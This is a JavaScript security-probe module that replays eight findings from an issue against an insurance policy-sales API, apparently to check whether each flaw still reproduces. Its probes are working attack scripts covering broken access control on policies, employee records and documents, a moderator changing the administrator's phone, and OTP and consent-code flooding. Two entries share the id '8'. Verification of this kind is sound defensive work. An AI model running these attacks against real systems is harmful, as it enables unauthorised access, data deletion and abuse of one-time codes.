// Findings 1 to 8 of issue 23 as scripts/security-probe.mjs replays them: each probe does what the attacker did
// and answers {reproduced, detail}; it throws when it could not get as far as the attack (the line says why).
import { DEMO_IIN, RESERVE_APC, call, signIn, status, ulid } from './probe-client.mjs';
import {
  INSURER,
  OTHER_INSURER,
  buildSale,
  checkoutByCard,
  issuedSale,
  uploadPicture,
  victimSale,
} from './probe-sale.mjs';

/** An employee's id by IIN, as the administrator's list gives it. */
async function employeeId(admin, iin) {
  const res = await admin.get(`/api/branches/list/employees?iin=${iin}`);
  const row = res.json?.data?.find((r) => r.iin === iin);
  if (!row) throw new Error(`employee ${iin} not in the administrator's list (${res.status})`);
  return row.id;
}

export const FINDINGS = [
  {
    id: '1',
    title: "free rewrite checkout of another customer's policy",
    async run() {
      const owner = await signIn(7);
      const victim = await issuedSale(owner, { iin: INSURER, paymentPhone: '+7(701) 555-0198' });
      if (victim.refused) throw new Error(`the victim's sale failed: checkout ${status(victim.refused)}`);
      const seller = await signIn(3);
      const policy = await buildSale(seller, { iin: OTHER_INSURER, paymentPhone: '+7(701) 555-0131' });
      const priced = await seller.post('/api/calculate/ogpo', { policy });
      const res = await checkoutByCard(seller, policy, { global: victim.global, isRewrite: true });
      if (res.status !== 200) return { reproduced: false, detail: `checkout ${status(res)}` };
      const due = res.json.url
        ? (await call('GET', `/api/get-to-epay/${res.json.url.split('/').pop()}`)).json?.data?.amount
        : 0;
      return {
        reproduced: true,
        detail: `checkout 200: charged ${due} of ${priced.json?.premium} tenge, replacing ${victim.global}`,
      };
    },
  },
  {
    id: '2',
    title: "moderator edits the administrator's phone",
    async run() {
      const admin = await signIn(0);
      const id = await employeeId(admin, DEMO_IIN[0]);
      const item = await admin.post('/api/branches/user-item', { id, isEdit: true });
      if (item.status !== 200) throw new Error(`user-item of the administrator: ${status(item)}`);
      const original = item.json.data;
      const phone = original.phone === '+7(701) 555-0166' ? '+7(701) 555-0167' : '+7(701) 555-0166';
      const moderator = await signIn(1);
      // the form is saved only with a terminal: the administrator has none, so the attacker picks one
      const terminals = (await moderator.get('/api/dictionaries/terminals')).json?.data ?? [];
      const terminal_id = original.terminal_id || terminals[0]?.id || 0;
      const edit = (form) => ({ form, isEdit: true, id, isDep: item.json.isDep });
      const res = await moderator.post(
        '/api/branches/create-user',
        edit({ ...original, phone, terminal_id }),
      );
      // A phone change may end the administrator's sessions: a new login reads it.
      const check = await signIn(0);
      const now = (await check.post('/api/branches/user-item', { id, isEdit: true })).json?.data?.phone;
      if (now !== phone) return { reproduced: false, detail: `create-user ${status(res)}` };
      const back = await check.post('/api/branches/create-user', edit({ ...original, terminal_id }));
      const restored =
        back.status === 200
          ? `put back${terminal_id !== original.terminal_id ? ` (its terminal stays id ${terminal_id})` : ''}`
          : `NOT PUT BACK (${status(back)}): set ${original.phone} again`;
      return {
        reproduced: true,
        detail: `create-user 200: phone ${original.phone} -> ${phone}, ${restored}`,
      };
    },
  },
  {
    id: '3',
    title: "deleting another seller's documents",
    async run() {
      const owner = await signIn(7);
      const sale = await buildSale(owner, { iin: INSURER, paymentPhone: '+7(701) 555-0197' });
      const docs = [await uploadPicture(owner, sale), await uploadPicture(owner, sale)];
      const failed = docs.find((d) => d.status !== 200);
      if (failed) throw new Error(`the owner's upload failed: ${status(failed)}`);
      const other = await signIn(8, RESERVE_APC);
      const one = await other.post('/api/document/delete', docs[0].json.data);
      const all = await other.post('/api/document/delete-client-images', {
        client: { id: docs[1].json.data.c_id },
      });
      const deleted = [one, all].filter((r) => r.status === 200 && r.json?.deleted > 0);
      return {
        reproduced: deleted.length > 0,
        detail: `document/delete ${status(one)}${one.json?.deleted ? ` (${one.json.deleted} deleted)` : ''}; delete-client-images ${status(all)}${all.json?.deleted ? ` (${all.json.deleted} deleted)` : ''}`,
      };
    },
  },
  {
    id: '4',
    title: "role 4 reads an employee's record out of its branch",
    async run() {
      const admin = await signIn(0);
      const agent = await signIn(4);
      const rows = (await admin.get('/api/branches/list/employees?page=1')).json?.data ?? [];
      let target = null;
      for (const row of rows) {
        if (row.iin === DEMO_IIN[4]) continue;
        const mine = await agent.get(`/api/branches/list/employees?iin=${row.iin}`);
        if (mine.status === 200 && !mine.json.data.some((r) => r.iin === row.iin)) {
          target = row;
          break;
        }
      }
      if (!target) throw new Error("no employee out of the agent's list on the administrator's first page");
      const res = await agent.post('/api/branches/user-item', { id: target.id, isEdit: false });
      const leaked = res.status === 200 && res.json?.data?.iin === target.iin;
      return {
        reproduced: leaked,
        detail: leaked
          ? `user-item 200: ${target.title} (IIN ${res.json.data.iin}, phone ${res.json.data.phone})`
          : `user-item ${status(res)}`,
      };
    },
  },
  {
    id: '5',
    title: "role 5 gets the receipt of another seller's policy",
    async run(ctx) {
      const victim = await victimSale(ctx);
      const sub = await signIn(5);
      const res = await sub.post('/api/policy/get-document', { global: victim.global, type: 1 });
      const got = res.status === 200 && Boolean(res.json?.document);
      return {
        reproduced: got,
        detail: got ? `get-document 200: receipt of ${victim.global}` : `get-document ${status(res)}`,
      };
    },
  },
  {
    id: '6',
    title: 'the APC of a sold policy taken from the request',
    async run(ctx) {
      const victim = await victimSale(ctx);
      if (ctx.apcRefusal)
        return { reproduced: false, detail: `checkout with another's APC ${status(ctx.apcRefusal)}` };
      const res = await victim.seller.post('/api/contracts/ogpo/policy-get', {
        global: victim.global,
        isGlobal: true,
        isRewrite: true,
        phone: victim.policy.paymentPhone,
      });
      const apc = res.json?.policy?.apc;
      if (apc === undefined) throw new Error(`policy-get of the sold policy: ${status(res)}`);
      return {
        reproduced: apc === RESERVE_APC,
        detail: `role 7 (no APC) sent apc ${RESERVE_APC}; the policy keeps ${apc === null ? 'none' : apc}`,
      };
    },
  },
  {
    id: '7',
    title: 'role 8 without an APC calls the OGPO endpoints',
    async run() {
      const reserve = await signIn(8);
      const answers = [
        [
          'client/get',
          await reserve.post('/api/client/get', {
            resident: true,
            person: true,
            verify: true,
            insurer: true,
            iin: INSURER,
          }),
        ],
        [
          'vehicle/get',
          await reserve.post('/api/vehicle/get', {
            filter: { verify: true, isNumber: true },
            number: '123ABC02',
          }),
        ],
        [
          'otp/verify',
          await reserve.post('/api/otp/verify', {
            ulid: ulid(),
            phone: '+7(701) 555-0143',
            email: '',
            code: '0000',
          }),
        ],
      ];
      const open = answers.filter(([, r]) => r.status !== 401 && r.status !== 403);
      return {
        reproduced: open.length > 0,
        detail: answers.map(([name, r]) => `${name} ${r.status}`).join(', '),
      };
    },
  },
  {
    id: '8',
    title: 'eight one-time codes to one phone in a burst (otp/send)',
    async run() {
      const seller = await signIn(3);
      const statuses = [];
      for (let i = 0; i < 8; i++) {
        const res = await seller.post('/api/otp/send', {
          ulid: ulid(),
          phone: '+7(701) 555-0142',
          email: '',
          resident: true,
          person: true,
        });
        statuses.push(res.status);
      }
      const sent = statuses.filter((s) => s === 200).length;
      return { reproduced: sent === 8, detail: `${sent} of 8 sent (${statuses.join(' ')})` };
    },
  },
  {
    id: '8',
    title: 'consent codes without interval (POST /api/dev/kdp/send)',
    async run() {
      const body = { iin: '010214600123' };
      const first = await call('POST', '/api/dev/kdp/send', { body });
      const second = await call('POST', '/api/dev/kdp/send', { body });
      if (first.status === 404 && second.status === 404)
        return { reproduced: false, detail: 'no dev endpoint (404)' };
      return {
        reproduced: first.status === 200 && second.status === 200,
        detail: `two sends at once: ${first.status}, ${status(second)}`,
      };
    },
  },
];
